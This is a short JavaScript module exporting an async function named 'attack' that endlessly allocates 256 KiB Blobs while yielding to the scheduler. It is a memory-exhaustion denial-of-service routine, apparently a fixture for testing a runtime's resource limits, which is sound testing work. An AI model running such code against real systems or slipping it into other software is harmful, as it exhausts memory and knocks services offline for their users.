export default async function attack() {
  const all = [];
  for (;;) {
    all.push(new Blob(["x".repeat(1 << 18)]));
    await scheduler.wait(0);
  }
}
